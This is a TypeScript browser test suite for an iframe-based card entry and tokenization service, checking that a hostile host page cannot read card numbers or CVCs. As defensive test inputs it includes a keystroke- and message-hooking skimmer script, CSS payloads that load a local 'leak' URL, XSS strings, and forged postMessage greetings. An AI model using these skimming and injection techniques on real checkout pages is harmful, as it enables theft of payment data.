import { mkdtempSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import { startFields, LOOPBACK_ORIGINS, type FieldsServer } from '../../bin/start/fields-server.ts';
import type { FieldsConfig } from '../../packages/fields/headers.ts';
import { HELLO } from '../../packages/fields/src/protocol.ts';
import { createBuiltAssets } from '../../bin/start/built-assets.ts';
import { writeFieldsSite } from '../../lib/fields-site.ts';
import { startChromium, startWholeChromium, type Chromium } from '../support/chromium.ts';
import { openFields, servePages, type FieldsPage, type Pages } from '../support/fields-page.ts';
import { needing } from '../support/needing.ts';
import { httpClient } from '../support/http-client.ts';
import { whenTouched } from '../../packages/test-kit/src/which-runs.ts';
import { anApplication, aRevealingApplication, client, credentials, operator } from '../support/service.ts';

const { describe } = needing('Chromium');

// The page around the fields is hostile: it owns everything but the frames. It is of another site
// than the fields, as a shop is.
const NUMBER = '5425233430109903';
const CVC = '846';

let chromium: Chromium;
let pages: Pages;
let publicKey: string;
let privateKey: string;
let otherTenantsKey: string;
let telling: FieldsServer;
let listed: FieldsServer;
let bound: FieldsServer;
let unguarded: { readonly url: string; readonly close: () => Promise<void> };
let page: FieldsPage;

const config = (more: Partial<FieldsConfig> = {}): FieldsConfig => ({
  apiUrl: credentials.base_url,
  headerPrefix: 'SVC',
  origins: LOOPBACK_ORIGINS,
  digits: false,
  ...more,
});

/** Fields whose server sends no policy: their own program decides about the page. */
async function serveUnguarded(origins: readonly string[]) {
  const folder = mkdtempSync(join(tmpdir(), 'fields-'));
  writeFieldsSite(await createBuiltAssets('fields')(), folder, config({ origins }));
  const types: Record<string, string> = {
    '.js': 'text/javascript',
    '.css': 'text/css',
    '.html': 'text/html',
  };
  const server = createServer((request, response) => {
    const path = request.url ?? '/';
    readFile(join(folder, path)).then(
      (body) =>
        response
          .writeHead(200, { 'content-type': types[extname(path)], 'access-control-allow-origin': '*' })
          .end(body),
      () => response.writeHead(404).end(),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  return {
    url: `http://localhost:${String((server.address() as AddressInfo).port)}`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

beforeAll(async () => {
  publicKey = (await anApplication({ type: 'public', permissions: ['token:create'] })).key;
  privateKey = (await anApplication()).key;
  const log = () => undefined;
  [chromium, pages, telling, listed, bound, unguarded] = await Promise.all([
    startChromium(),
    servePages(),
    startFields({ port: 0, config: config({ digits: true }), fonts: '', log }),
    startFields({ port: 0, config: config({ origins: ['https://shop.example.com'] }), fonts: '', log }),
    startFields({
      port: 0,
      config: config({ origins: [`http://127.0.0.1:*=${credentials.tenant_id}`] }),
      fonts: '',
      log,
    }),
    serveUnguarded(['https://shop.example.com']),
  ]);
  const { management_key: managementKey = '' } = await operator({
    command: 'create-tenant',
    name: 'Another shop',
  });
  const { body } = await httpClient(credentials.base_url, managementKey).post('/applications', {
    name: 'Page',
    type: 'public',
    permissions: ['token:create'],
  });
  otherTenantsKey = body.key as string;
});

afterAll(async () => {
  await Promise.all([chromium, pages, telling, listed, bound, unguarded].map((each) => each.close()));
});

afterEach(() => page.tab.close());

/** A page whose script runs after the fields are mounted, and `before` before everything else. */
async function openHostile({
  script = '',
  before = '',
  fieldsUrl = credentials.fields_url,
  key = publicKey,
  options = '{}',
  body = '',
  loadTimeoutMs = 600_000,
  inside = chromium,
}) {
  const html = `<!doctype html><html lang="en"><title>Shop</title><body>
    ${['number', 'expiry', 'cvc'].map((id) => `<div id="${id}" style="height: 40px"></div>`).join('')}${body}
    <script type="module">
      import { createFields } from '${fieldsUrl}/fields.js';
      const fields = createFields({ fieldsUrl: '${fieldsUrl}', apiKey: '${key}', loadTimeoutMs: ${String(loadTimeoutMs)} });
      const [number, expiry, cvc] = ['card_number', 'card_expiration', 'card_cvc'].map((kind) => fields.field(kind, ${options}));
      Object.assign(window, { fields, number, expiry, cvc, states: [], problems: [] });
      for (const field of [number, expiry, cvc]) { field.on('change', (state) => states.push([field.kind, state])); field.on('error', ({ code }) => problems.push(code)); }
      window.card = () => ({ type: 'card', data: { number, expiration_month: expiry.month, expiration_year: expiry.year, cvc } });
      window.settled = (promise) => promise.then((result) => ({ result }), ({ code, message }) => ({ code, message }));
      number.mount('#number'); expiry.mount('#expiry'); cvc.mount('#cvc');
      ${script}
    </script></body></html>`;
  page = await openFields(inside, pages.add(html), before);
}

async function typeCard(number = NUMBER): Promise<void> {
  await page.type('#number', number);
  await page.type('#expiry', '12/30');
  await page.type('#cvc', CVC);
}

/** Every six digits in a row of the number. A page that has none of them has nothing of it. */
const RUNS = Array.from({ length: NUMBER.length - 5 }, (_, index) => NUMBER.slice(index, index + 6));
const hasDigits = (text: string): boolean =>
  RUNS.some((run) => text.replaceAll(/[ \-",\\]/g, '').includes(run));

/** Returns the names of the inputs of all frames of the fields; `none` for one without. */
const inputsOf = async ({ tab }: FieldsPage): Promise<readonly unknown[]> => {
  const asked = `location.pathname === '/v1/frame.html' ? [document.querySelector('#input')?.name ?? 'none'] : []`;
  const names = await Promise.all(tab.frames().map((frame) => frame.evaluate(asked)));
  return names.flat().toSorted();
};

/** Lets a window handle the messages that it has got, and the timers that they start. */
const TURNS = `(async () => {
  for (let turn = 0; turn < 10; turn += 1) {
    await new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port2.onmessage = resolve;
      port1.postMessage(0);
    });
    await new Promise((resolve) => setTimeout(resolve));
  }
})()`;

/** Resolves when every frame, and then the page, has handled what it was sent before. */
async function handled(): Promise<void> {
  for (const frame of page.tab.frames()) await frame.evaluate(TURNS);
  await page.tab.evaluate(TURNS);
}

describe('a hostile page around the fields', () => {
  it('reads no digit by replacing every function of its own realm before the script loads', async () => {
    await openHostile({
      before: `
        window.heard = [];
        { const seen = new Set(); const { stringify } = JSON; const { apply } = Reflect;
          let isBusy = false;
          const note = (value) => { if (isBusy) return; isBusy = true; try { heard[heard.length] = typeof value === 'string' ? value : stringify(value) ?? ''; } catch {} isBusy = false; };
          const tap = (owner, name) => { const original = owner?.[name]; if (typeof original !== 'function' || seen.has(original)) return; seen.add(original);
            try { owner[name] = function (...args) { for (let i = 0; i < args.length; i += 1) note(args[i]); const out = apply(original, this, args); note(out); return out; }; Object.setPrototypeOf(owner[name], original); owner[name].prototype = original.prototype; } catch {} };
          for (const owner of [MessagePort.prototype, EventTarget.prototype, window]) tap(owner, 'postMessage'), tap(owner, 'addEventListener'), tap(owner, 'dispatchEvent');
          for (const name of ['map', 'filter', 'push', 'join', 'includes', 'find', 'flatMap', 'concat', 'slice', 'forEach']) tap(Array.prototype, name);
          for (const name of ['get', 'set', 'has', 'delete']) tap(Map.prototype, name), tap(Set.prototype, 'add');
          for (const name of ['entries', 'fromEntries', 'values', 'keys', 'assign', 'hasOwn']) tap(Object, name);
          for (const name of ['parse', 'stringify']) tap(JSON, name);
          for (const name of ['replace', 'split', 'includes', 'startsWith', 'slice', 'trim']) tap(String.prototype, name);
          for (const name of ['then', 'catch', 'finally']) tap(Promise.prototype, name);
          tap(window, 'fetch'); tap(crypto, 'getRandomValues'); tap(Node.prototype, 'append'); tap(Element.prototype, 'setAttribute');
          const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
          Object.defineProperty(MessageEvent.prototype, 'data', { get() { const value = data.get.call(this); note(value); return value; } });
          const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
          Object.defineProperty(MessagePort.prototype, 'onmessage', { ...onmessage, set(listener) { onmessage.set.call(this, (event) => { note(event.data); listener(event); }); } });
          addEventListener('message', ({ data: message }) => note(message), true);
          for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'paste', 'copy', 'selectionchange', 'compositionend']) addEventListener(type, (event) => note([type, event.key, event.data, String(getSelection())]), true);
        }`,
    });
    await typeCard();
    await page.tab.evaluate(
      'settled(fields.createToken(card())).then((outcome) => (window.outcome = outcome))',
    );
    const { outcome, heard } = await page.tab.evaluate('({ outcome, heard })');
    expect(outcome.result.id).toEqual(expect.any(String));
    // The page has everything that it wrote and read, such as the states that each port reported.
    expect(heard.join('\n')).toContain('"complete":true');
    expect(heard.length).toBeGreaterThan(50);
    expect(heard.filter(hasDigits)).toEqual([]);
    expect(heard.filter((text: string) => text === CVC || text.includes(`"${CVC}"`))).toEqual([]);
    expect(hasDigits(JSON.stringify(await page.tab.evaluate('states')))).toBe(false);
  });

  it('reaches nothing of a frame, and forges no message of the page or of a frame', async () => {
    await openHostile({ body: `<iframe id="evil" srcdoc="<p>evil</p>"></iframe>` });
    await typeCard();
    const attempts: string[] = await page.tab
      .evaluate(`Promise.all([...document.querySelectorAll('iframe:not(#evil)')].flatMap((frame) => [
      () => frame.contentDocument === null ? Promise.reject() : 'document',
      () => frame.contentWindow.document.body.innerHTML,
      () => frame.contentWindow.location.href,
      () => frame.contentWindow.eval('1'),
      () => frame.contentWindow.frames[0].document,
      () => Object.keys(frame.contentWindow.origin),
    ].map(async (attempt) => { try { return String(await attempt()); } catch { return 'refused'; } })))`);
    expect(new Set(attempts)).toEqual(new Set(['refused']));
    // The page and a frame of it ask as frames do, and greet a second time.
    await page.tab.evaluate(`(async () => {
      const heard = [];
      const ask = (from, target, message) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => heard.push(data); target.postMessage(message, '*', [port2]); };
      addEventListener('message', ({ data }) => heard.push(data));
      const evil = document.getElementById('evil').contentWindow;
      evil.eval("window.ask = (target, message) => new Promise((resolve) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => resolve(data); target.postMessage(message, '*', [port2]); setTimeout(resolve, 200); })");
      const ids = [number, expiry, cvc].map((field) => field.id);
      for (const frame of document.querySelectorAll('iframe:not(#evil)')) {
        const target = frame.contentWindow;
        for (const fieldId of ids) {
          const question = { cloakroom: '${HELLO}', ask: 'value', fieldId };
          ask(window, target, question);
          heard.push(await evil.ask(target, question));
        }
        for (const kind of ['card_number', 'card_cvc', 'text'])
          ask(window, target, { cloakroom: '${HELLO}', fieldId: ids[0], groupId: 'x', kind, fixed: {}, options: { scheme: 'light', style: {} } });
        target.postMessage({ type: 'submit', requestId: 'x', submission: { operation: 'tokenize', body: { 'cloakroom:field': ids[0] }, key: '${publicKey}' } }, '*');
      }
      window.heard = heard;
    })()`);
    await handled();
    const heard = await page.tab.evaluate('window.heard.filter((each) => each !== undefined)');
    expect(heard).toEqual([]);
    expect(page.requests(credentials.base_url)).toEqual([]);
  });

  it('loads nothing by a style, reads nothing by a selector, and gets no font of its own', async () => {
    const evil = pages.origin.replace('127.0.0.1', 'localhost');
    const values = [
      `url(${evil}/leak)`,
      `image-set("${evil}/leak" 1x)`,
      `red; background: url(${evil}/leak)`,
      `red } input[value^="5"] { background: url(${evil}/leak)`,
      `var(--x, url(${evil}/leak))`,
      `attr(value)`,
      `\\75 rl(${evil}/leak)`,
      `@import "${evil}/leak"`,
      'x'.repeat(5_000),
    ];
    const style = Object.fromEntries(
      ['base', 'placeholder', 'focus', 'invalid', 'input[value^="5"]', 'base } * {'].map((state) => [
        state,
        { color: 'rgb(9, 9, 9)', position: 'fixed', content: '"x"', backgroundImage: values[0], '--x': 'y' },
      ]),
    );
    // The page's own script would refuse these names.
    await openHostile({
      options: JSON.stringify({ style }),
      before: 'Array.prototype.includes = () => true;',
    });
    await typeCard();
    for (const value of values)
      await page.tab.evaluate(
        `number.update({ style: { base: Object.fromEntries(['color', 'backgroundColor', 'fontFamily', 'padding', 'background', 'src', 'textShadow'].map((name) => [name, ${JSON.stringify(value)}])) }, label: '<img src=x onerror=alert(1)>', placeholder: '</style><script>alert(1)</script>' })`,
      );
    await handled();
    const frame = await page.frame('card_number');
    const shown = await frame.evaluate(
      `(() => { const { backgroundImage, position } = getComputedStyle(document.getElementById('field')); return [backgroundImage, position, document.querySelectorAll('img, script:not([src]):not([type])').length, document.querySelector('label').textContent]; })()`,
    );
    expect(shown).toEqual(['none', 'static', 0, '<img src=x onerror=alert(1)>']);
    const hosts = page.tab
      .frameEvents('Network.requestWillBeSent')
      .map(({ request }) => new URL(request.url).origin);
    expect(new Set(hosts)).toEqual(new Set([credentials.fields_url]));
    expect(
      page.tab.events('Network.requestWillBeSent').filter(({ request }) => request.url.includes('leak')),
    ).toEqual([]);
  });

  it('cannot have a value dragged out, or a cvc copied', async () => {
    await openHostile({});
    await typeCard();
    const prevented = async (kind: string, type: string) =>
      (await page.frame(kind)).evaluate(
        `(() => { const input = document.querySelector('#input'); input.select(); const event = new Event('${type}', { bubbles: true, cancelable: true }); input.dispatchEvent(event); return event.defaultPrevented; })()`,
      );
    for (const kind of ['card_number', 'card_expiration', 'card_cvc'])
      expect(await prevented(kind, 'dragstart')).toBe(true);
    expect([await prevented('card_cvc', 'copy'), await prevented('card_cvc', 'cut')]).toEqual([true, true]);
    expect(await prevented('card_number', 'copy')).toBe(false);
  });

  it('gets nothing of what a browser writes into inputs beside the number', async () => {
    await openHostile({});
    await typeCard();
    await page.empty('expiry', 'cvc');
    const frame = await page.frame('card_number');
    // Browsers that fill in one frame alone write the rest into inputs beside the number.
    await frame.evaluate(
      `(() => { for (const [name, value] of [['cc-exp', '2030-12'], ['cc-csc', '${CVC}']]) { const ghost = document.querySelector('.ghost[name=' + name + ']'); ghost.value = value; ghost.dispatchEvent(new Event('change')); } })()`,
    );
    await page.tab.until('expiry.state.complete && cvc.state.complete');
    expect([await page.text('card_expiration'), await page.text('card_cvc')]).toEqual(['12 / 30', CVC]);
    expect(
      await frame.evaluate(`[...document.querySelectorAll('.ghost')].map(({ value }) => value)`),
    ).toEqual(['', '']);
  });

  it('writes no mask, and no field into another place than data', async () => {
    await openHostile({});
    await typeCard();
    const outcomes = await page.tab.evaluate(`Promise.all([
      { ...card(), mask: '{{ data.number }}' }, { ...card(), id: 'my-1' }, { ...card(), metadata: { number } },
      { type: 'token', data: { number, cvc } }, { ...card(), search_indexes: ['{{ data.number }}'] },
    ].map((token) => settled(fields.createToken(token))))`);
    expect(outcomes.map(({ code }: any) => code)).toEqual(Array(5).fill('not_allowed'));
    expect(outcomes.some(({ message }: any) => hasDigits(message))).toBe(false);
    expect(page.requests(credentials.base_url)).toEqual([]);
  });
});

describe('the key that a page uses', () => {
  it.each(['private', 'of a tenant to which the page is not bound'])(
    'sends nothing when it is %s',
    async (kind) => {
      const isPrivate = kind === 'private';
      await openHostile({
        key: isPrivate ? privateKey : otherTenantsKey,
        fieldsUrl: isPrivate ? credentials.fields_url : bound.url,
      });
      await typeCard();
      expect(await page.tab.evaluate('settled(fields.createToken(card()))')).toMatchObject({
        code: 'wrong_key',
      });
      expect(page.requests(credentials.base_url)).toEqual([]);
    },
  );
});

describe('a page that asks the service about what was typed', () => {
  it('finds no token of a field by creating an equal one, before or after', async () => {
    const { post } = client(publicKey);
    const guess = { type: 'card', data: { number: NUMBER, expiration_month: 12, expiration_year: 2030 } };
    const wanted = { ...guess, deduplicate_token: true };
    const before = await post('/tokens', wanted);
    await openHostile({});
    await typeCard();
    const { result } = await page.tab.evaluate('settled(fields.createToken(card()))');
    expect(result.id).not.toBe(before.body.id);
    await client((await aRevealingApplication()).key).delete(`/tokens/${before.body.id as string}`);
    const after = await post('/tokens', wanted);
    expect([after.status, after.body._extras]).toEqual([201, undefined]);
    expect(after.body.id).not.toBe(result.id);
  });

  it('has no number sent again and again while it is typed, whose last digits a mask shows', async () => {
    await openHostile({
      body: '<div id="account" style="height: 40px"></div>',
      script: `window.account = fields.field('account_number'); account.mount('#account');`,
    });
    const sent = async () => {
      const { result, code } = await page.tab.evaluate(
        `settled(fields.createToken({ type: 'us_bank_account_number', data: account }))`,
      );
      return result === undefined ? code : 'sent';
    };
    await page.type('#account', '73055');
    expect(await sent()).toBe('sent');
    await page.type('#account', '1826491');
    expect([await sent(), await page.tab.evaluate('account.state.valid')]).toEqual(['incomplete', false]);
    // A request succeeded, so that the page may empty it for another number.
    await page.empty('account');
    await page.type('#account', '730551826491');
    expect(await sent()).toBe('sent');
    await page.tab.press('Backspace');
    await page.tab.until('!account.state.valid');
    expect(await sent()).toBe('incomplete');
    // A person who empties it may write what they like.
    for (let digit = 0; digit < 12; digit += 1) await page.tab.press('Backspace');
    await page.tab.until('account.state.empty');
    await page.type('#account', '73055182');
    expect(await sent()).toBe('sent');
  });
});

whenTouched.describe('a hostile page in a browser that fills in forms', () => {
  const { it } = needing('Chromium with autofill');
  let whole: Chromium;
  beforeAll(async () => {
    whole = await startWholeChromium();
  });
  afterAll(() => whole.close());

  it('gets nothing of what the browser fills into the fields', async () => {
    await openHostile({
      inside: whole,
      body: `<form style="opacity: 0"><input id="p1" autocomplete="cc-number"><input id="p2" autocomplete="cc-exp"><input id="p3" autocomplete="cc-csc"></form>`,
    });
    const frame = await page.frame('card_number');
    await page.type('#number', '');
    const { root } = await frame.send('DOM.getDocument', { depth: -1 });
    const { nodeId } = await frame.send('DOM.querySelector', { nodeId: root.nodeId, selector: '#input' });
    const { node } = await frame.send('DOM.describeNode', { nodeId });
    const { frameTree } = await frame.send('Page.getFrameTree');
    await frame.send('Autofill.trigger', {
      fieldId: node.backendNodeId,
      frameId: frameTree.frame.id,
      card: { number: NUMBER, name: 'A Person', expiryMonth: '12', expiryYear: '2030', cvc: CVC },
    });
    await page.tab.until('[number, expiry, cvc].every(({ state }) => state.complete)');
    expect([
      await page.text('card_number'),
      await page.text('card_expiration'),
      await page.text('card_cvc'),
    ]).toEqual(['5425 2334 3010 9903', '12 / 30', CVC]);
    expect(
      await page.tab.evaluate(`['p1', 'p2', 'p3'].map((id) => document.getElementById(id).value)`),
    ).toEqual(['', '', '']);
  });
});

describe('a frame', () => {
  it('is not shown in a page that is not listed', async () => {
    await openHostile({ fieldsUrl: listed.url, loadTimeoutMs: 1_500 });
    await page.tab.until('problems.length >= 3');
    expect(await page.tab.evaluate('problems[0]')).toBe('frame_unavailable');
    // The browser shows its own error page instead.
    expect(page.tab.frames().filter(({ url }) => url.includes('frame.html'))).toHaveLength(3);
    for (const frame of page.tab.frames())
      expect(await frame.evaluate('document.querySelector("input")').catch(() => null)).toBeNull();
  });

  it('does nothing in a page that is not listed, also without the policy of its server', async () => {
    await openHostile({ fieldsUrl: unguarded.url, loadTimeoutMs: 1_500 });
    await page.tab.until('problems.length >= 3');
    for (const frame of page.tab.frames())
      expect(await frame.evaluate('[location.pathname, document.querySelectorAll("input").length]')).toEqual([
        '/v1/frame.html',
        0,
      ]);
  });

  it('is greeted by the window around it alone, with one port, and asks no other frame', async () => {
    const frame = `${credentials.fields_url}/v1/frame.html`;
    await openHostile({
      body: `<iframe id="raw" src="${frame}"></iframe><iframe id="evil" srcdoc="<script>window.heard = []; addEventListener('message', ({ data }) => heard.push(data))</script>"></iframe><iframe id="other" src="${pages.add(`<script>addEventListener('message', ({ data }) => parent.postMessage({ heard: data }, '*'))</script>`).replace('127.0.0.1', 'localhost')}"></iframe>`,
      script: `window.heard = []; addEventListener('message', ({ data }) => data.heard && heard.push(data.heard));`,
    });
    await typeCard();
    const hello = `{ cloakroom: '${HELLO}', fieldId: 'x', groupId: 'x', kind: 'text', fixed: {}, options: { scheme: 'light', style: {} } }`;
    await page.tab.evaluate(
      `document.getElementById('evil').contentWindow.eval(\`parent.document.getElementById('raw').contentWindow.postMessage(${hello}, '*', [new MessageChannel().port2])\`)`,
    );
    await page.tab.evaluate(
      `{ const raw = document.getElementById('raw').contentWindow; raw.postMessage(${hello}, '*'); raw.postMessage(${hello}, '*', [new MessageChannel().port2, new MessageChannel().port2]); }`,
    );
    expect((await page.tab.evaluate('settled(fields.createToken(card()))')).result.id).toEqual(
      expect.any(String),
    );
    await handled();
    const raw = await inputsOf(page);
    expect(raw).toEqual(['card-cvc', 'card-expiration', 'card-number', 'none']);
    expect(await page.tab.evaluate(`[heard, document.getElementById('evil').contentWindow.heard]`)).toEqual([
      [],
      [],
    ]);
    await page.tab.evaluate(
      `document.getElementById('raw').contentWindow.postMessage(${hello}, '*', [new MessageChannel().port2])`,
    );
    await page.frame('text');
  });

  it('does nothing in a sandbox, and as a page of its own', async () => {
    await openHostile({
      body: `<iframe id="boxed" sandbox="allow-scripts" src="${credentials.fields_url}/v1/frame.html"></iframe>`,
    });
    await typeCard();
    await page.tab.evaluate(`(() => {
      const { port1, port2 } = new MessageChannel(); window.heard = []; port1.onmessage = ({ data }) => heard.push(data);
      document.getElementById('boxed').contentWindow.postMessage({ cloakroom: '${HELLO}', fieldId: 'x', groupId: 'x', kind: 'card_number', fixed: {}, options: { scheme: 'light', style: {} } }, '*', [port2]);
    })()`);
    await handled();
    expect(await page.tab.evaluate('heard')).toEqual([]);
    await page.tab.open(`${credentials.fields_url}/v1/frame.html`);
    await page.tab.evaluate(
      `postMessage({ cloakroom: '${HELLO}', fieldId: 'x', groupId: 'x', kind: 'card_number', fixed: {}, options: { scheme: 'light', style: {} } }, '*', [new MessageChannel().port2])`,
    );
    await handled();
    expect(await page.tab.evaluate('document.querySelectorAll("input").length')).toBe(0);
  });

  it('sends to no other service than its own', async () => {
    await openHostile({
      script: `const { createFields: make } = await import('${credentials.fields_url}/fields.js');
        const other = make({ fieldsUrl: '${credentials.fields_url}', baseUrl: '${pages.origin}', apiKey: '${publicKey}' }).field('card_number');
        other.on('error', ({ code }) => problems.push(code)); other.mount(document.body.appendChild(document.createElement('div')));`,
    });
    // On a busy machine it may be late, which it says before.
    await page.tab.until(`problems.includes('wrong_service')`);
    const frame = await page.frame('card_number');
    const left = await frame.evaluate(
      `fetch('${pages.origin}/leak', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')`,
    );
    expect(left).toBe('refused');
  });

  it('has nothing after a reload and the back button', async () => {
    await openHostile({});
    await typeCard();
    const url: string = await page.tab.evaluate('location.href');
    await page.tab.open(pages.add('<title>Next</title>'));
    await page.tab.evaluate('setTimeout(() => history.back())');
    await page.tab.until(
      `location.href === ${JSON.stringify(url)} && document.querySelectorAll('[data-ready]').length >= 3`,
    );
    for (const kind of ['card_number', 'card_expiration', 'card_cvc']) expect(await page.text(kind)).toBe('');
  });
});

describe('BIN and last four', () => {
  const reported = () =>
    page.tab.evaluate(`states.flatMap(([, { bin, last4 }]) => bin === undefined ? [] : [[bin, last4]])`);

  it('are reported to no page of a deployment without the setting', async () => {
    await openHostile({});
    await typeCard();
    await page.leave('number');
    await handled();
    expect(await reported()).toEqual([]);
  });

  it('are reported once for a whole number, whatever the page does while it is typed', async () => {
    await openHostile({ fieldsUrl: telling.url });
    // 13 digits of a Visa pass the check, and are the beginning of a number of 16.
    await page.type('#number', '4000000000006');
    await page.tab.evaluate('number.blur(), expiry.focus()');
    // Keys that are typed before the frame has acted would go there.
    await page.tab.until(`document.querySelector('#expiry[data-focused]') !== null`);
    for (const act of ['number.update({ brands: ["visa"] })', 'window.focus()']) await page.tab.evaluate(act);
    await handled();
    expect(await reported()).toEqual([]);
    await page.type('#number', '000');
    const frame = await page.frame('card_number');
    const whole: string = await frame.evaluate(`document.querySelector('#input').value.replaceAll(' ', '')`);
    expect(whole).toHaveLength(16);
    await page.empty('number');
    await page.type('#number', '4242424242424242');
    expect(await reported()).toEqual([]);
    await page.leave('number');
    await page.tab.until('states.some(([, { bin }]) => bin)');
    expect(await reported()).toEqual([['42424242', '4242']]);
    // Neither more digits nor a page that empties the field and has it filled in again.
    await page.tab.evaluate('number.update({ brands: undefined })');
    await page.type('#number', '428');
    await page.tab.until('!number.state.valid');
    await page.leave('number');
    await page.empty('number');
    await page.type('#number', NUMBER);
    await page.tab.until('number.state.complete && number.state.valid');
    await page.leave('number');
    await handled();
    expect(await reported()).toHaveLength(1);
    expect(await page.tab.evaluate('Object.keys(number.state)')).toEqual([
      'empty',
      'complete',
      'valid',
      'brand',
      'message',
    ]);
  });
});
